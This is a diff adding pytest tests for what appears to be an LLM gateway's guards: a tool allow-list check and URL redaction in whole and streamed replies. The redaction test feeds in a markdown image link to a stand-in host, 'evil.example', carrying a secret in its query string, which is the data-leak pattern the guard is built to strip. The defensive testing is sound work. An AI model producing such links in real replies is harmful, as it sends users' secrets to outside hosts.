@@ -292,6 +292,47 @@ def test_an_answer_that_is_blocked(gateway_of, name):
     assert record["guard"]["action"] == "block" and record["status"] == 200
 
 
+@pytest.mark.parametrize("face", FACES)
+@pytest.mark.parametrize("name", CLIENTS)
+def test_only_tools_that_are_allowed(gateway_of, name, face):
+    tools = {"check": "tools", "mode": "block"}
+    asked = ["weather", "news"]
+    allowed = client_of(name, gateway_of(tools | {"allow": asked}, face=face))
+    refusing = client_of(name, gateway_of(tools | {"allow": ["weather"]}, face=face))
+    for ask in ("ask", "stream"):
+        _, calls, _ = getattr(allowed, ask)("sim-tools:2", tools=asked)
+        assert [tool for tool, _ in calls] == asked
+        _, calls, _ = getattr(refusing, ask)("sim-tools:2", tools=asked)
+        assert "news" not in [tool for tool, _ in calls]
+    record = gateway_of(tools | {"allow": ["weather"]}, face=face).records()[-1]
+    assert record["guard"]["findings"] == {"block:tool.call": 1}
+    # What somebody asked for before is no call.
+    call = {"id": "c", "type": "function", "function": {"name": "rm", "arguments": "{}"}}
+    status, _, _ = gateway_of(tools | {"allow": asked}, face=face).post(
+        "/v1/chat/completions",
+        chat(
+            user("Hi"),
+            {"role": "assistant", "content": None, "tool_calls": [call]},
+            {"role": "tool", "tool_call_id": "c", "content": "done"},
+        ),
+    )
+    assert status == 200
+
+
+@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
+@pytest.mark.parametrize("name", CLIENTS)
+def test_addresses_that_lead_elsewhere(gateway_of, name, streamed):
+    gateway = gateway_of(
+        {"check": "urls", "mode": "redact", "allow": ["*.good.example"]}
+    )
+    client = client_of(name, gateway)
+    said, _, _ = (client.stream if streamed else client.ask)(
+        "sim-mirror",
+        text="See ![a](https://evil.example/?q=secret) or https://www.good.example/x now.",
+    )
+    assert "See ![a]([URL_1]) or https://www.good.example/x now." in said
+
+
 BLOCKED_ENDS = {
     "openai": (
         "/v1/chat/completions",
